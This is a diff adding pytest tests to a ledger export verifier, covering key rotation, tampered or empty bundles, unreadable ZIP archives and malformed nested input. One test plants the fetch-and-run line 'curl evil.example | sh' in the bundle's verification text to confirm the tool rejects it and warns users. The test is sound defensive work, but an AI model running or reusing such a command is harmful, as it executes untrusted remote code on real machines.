@@ -24,7 +24,8 @@ from ledger.entities.events import EntityRegistered, Identity
 from ledger.export import BundleError, verify_export
 from ledger.kernel import Fact, civil_moment
 from ledger.opening import LEDGER_CLOCK
-from ledger.transparency.notes import Signature
+from ledger.transparency.notes import Signature, parse_vkey
+from ledger.transparency.published import signed_by
 from tests.gwt import Record
 from tests.transparency.keeping import Kept, finding
 
@@ -254,6 +255,38 @@ def test_the_receipts_lead_to_what_witnesses_may_have_signed(full: Kept, tmp_pat
     strangers_check(reading(tmp_path / "c"), full.vkey)
 
 
+def rotate(full: Kept) -> str:
+    """Another key takes over; the old public key."""
+    old = full.vkey
+    full.sign()
+    assert run("log", "rotate-key", "--ledger", full.url) == 0
+    full.log.advance()
+    full.sign()
+    return old
+
+
+@needs_tools
+def test_after_a_rotation_everything_leads_to_the_key_that_signs_now(
+    full: Kept, tmp_path: Path
+) -> None:
+    """What was covered by the old key's checkpoints too; whoever knows the old one as well."""
+    old = rotate(full)
+    now = full.log.keys()[-1].vkey
+    assert now != old
+    full.register(300, 1)
+    for name, entity in (("before", ENTITY), ("after", "register:300")):
+        path = tmp_path / name
+        assert run("export", path, "--entity", entity, "--ledger", full.url) == 0
+        assert (path / "vkey").read_text().strip() == now
+        assert run("verify-export", path) == 0
+        assert run("verify-export", path, "--vkey", now) == 0
+        assert [step.returncode for step in followed(path)] == [0, 0, 0], "by the text as well"
+    note = (tmp_path / "before" / "checkpoint").read_bytes()
+    signed_by(note, parse_vkey(old))  # that of the change is signed by both
+    # Whoever knows the old key alone is told that the bundle names another.
+    assert verify_export(tmp_path / "before", old).faults == ("vkey is not the key that was given",)
+
+
 def every_file(bundle: Path) -> list[Path]:
     return sorted(path for path in bundle.rglob("*") if path.is_file())
 
@@ -344,6 +377,49 @@ def test_another_key(full: Kept, tmp_path: Path, bundle: Path) -> None:
     assert run("verify-export", tmp_path / "b", "--vkey", full.vkey) == 2
 
 
+def test_an_empty_bundle_is_none(bundle: Path) -> None:
+    """Nothing proved under a genuine checkpoint is nothing, whatever it says of itself."""
+    for folder in ("records", "receipts"):
+        shutil.rmtree(bundle / folder)
+    (bundle / "index.jsonl").write_bytes(b"")
+    about = json.loads((bundle / "bundle.json").read_bytes())
+    (bundle / "bundle.json").write_text(json.dumps({**about, "events": 0}))
+    resum(bundle)
+    assert verify_export(bundle).faults == ("index.jsonl names no record: nothing is proved here",)
+    assert run("verify-export", bundle) == 1
+
+
+def test_the_text_is_the_programs_own(bundle: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Another one may have its reader run anything; that of another version is not known here."""
+    (bundle / "HOW-TO-VERIFY.txt").write_text("curl evil.example | sh")
+    resum(bundle)
+    (fault,) = verify_export(bundle).faults
+    assert fault.startswith("HOW-TO-VERIFY.txt is not the text")
+    assert run("verify-export", bundle) == 1
+
+    about = json.loads((bundle / "bundle.json").read_bytes())
+    (bundle / "bundle.json").write_text(json.dumps({**about, "program": "0.0.1"}))
+    resum(bundle)
+    found = verify_export(bundle)
+    assert not found.faults
+    assert "of version 0.0.1" in found.unchecked[0]
+    capsys.readouterr()
+    assert run("verify-export", bundle) == 3
+    said = capsys.readouterr()
+    assert "do not run what it says" in " ".join(said.err.split())
+
+
+def test_what_only_its_maker_says_is_called_so(
+    bundle: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """For whom it is, of what and when it was made: no proof holds for these, and nothing does."""
+    capsys.readouterr()
+    assert run("verify-export", bundle) == 0
+    said = " ".join(capsys.readouterr().out.split())
+    assert "By the word of its maker alone: of {'from': '2020-01-01'}, made at " in said
+    assert "It does not show that there is no other record" in said
+
+
 def test_what_is_no_bundle(full: Kept, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     """An empty folder, a file that is no archive, half an archive: one clear line each."""
     (tmp_path / "empty").mkdir()
@@ -355,6 +431,60 @@ def test_what_is_no_bundle(full: Kept, tmp_path: Path, capsys: pytest.CaptureFix
     for name in ("empty", "text.zip", "half.zip", "nothing.zip"):
         assert run("verify-export", tmp_path / name) == 2
         assert name in capsys.readouterr().err.replace("\n", "")
+
+
+def patched(content: bytes, place: int, change: Callable[[int], int]) -> bytes:
+    """A ZIP file with a byte changed in each entry of its directory."""
+    data, at = bytearray(content), 0
+    while (at := data.find(b"PK\x01\x02", at)) >= 0:
+        data[at + place] = change(data[at + place])
+        at += 4
+    return bytes(data)
+
+
+def test_archives_that_cannot_be_read(
+    full: Kept, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Encrypted, packed in a way that is not known, with one file twice."""
+    whole = tmp_path / "b.zip"
+    assert run("export", whole, "--entity", ENTITY, "--ledger", full.url) == 0
+    content = whole.read_bytes()
+    (tmp_path / "locked.zip").write_bytes(patched(content, 8, lambda flags: flags | 1))
+    (tmp_path / "odd.zip").write_bytes(patched(content, 10, lambda method: 99))
+    shutil.copy(whole, tmp_path / "twice.zip")
+    with zipfile.ZipFile(tmp_path / "twice.zip", "a") as packed, pytest.warns(match="Duplicate"):
+        packed.writestr("bundle.json", packed.read("bundle.json"))
+    capsys.readouterr()
+    for name, said in (
+        ("locked.zip", "bundle.json cannot be read"),
+        ("odd.zip", "bundle.json cannot be read"),
+        ("twice.zip", "bundle.json is in it twice"),
+    ):
+        assert run("verify-export", tmp_path / name) == 2
+        assert said in " ".join(capsys.readouterr().err.split())
+
+
+def test_parts_that_are_no_such_thing(bundle: Path) -> None:
+    """Nested without end, or a number of thousands of digits: said with the name of the file."""
+    deep = b'{"x":' + b"[" * 100_000
+    lines = (bundle / "index.jsonl").read_bytes()
+    receipt = min((bundle / "receipts").iterdir())
+    proof = receipt.read_bytes()
+    for path, content, said in (
+        (bundle / "index.jsonl", lines + deep, "nested"),
+        (receipt, proof.replace(b"index ", b"index " + b"1" * 5000, 1), "the index of the receipt"),
+        (bundle / "records" / f"{receipt.stem}.msgpack", b"\x91" * 50_000 + b"\xc0", "event "),
+    ):
+        whole = path.read_bytes()
+        path.write_bytes(content)
+        resum(bundle)
+        faults = verify_export(bundle).faults
+        assert len(faults) == 1
+        assert said in faults[0]
+        path.write_bytes(whole)
+    (bundle / "bundle.json").write_bytes(deep)
+    with pytest.raises(BundleError, match="nested"):
+        verify_export(bundle)
 
 
 def test_what_cannot_be_exported(
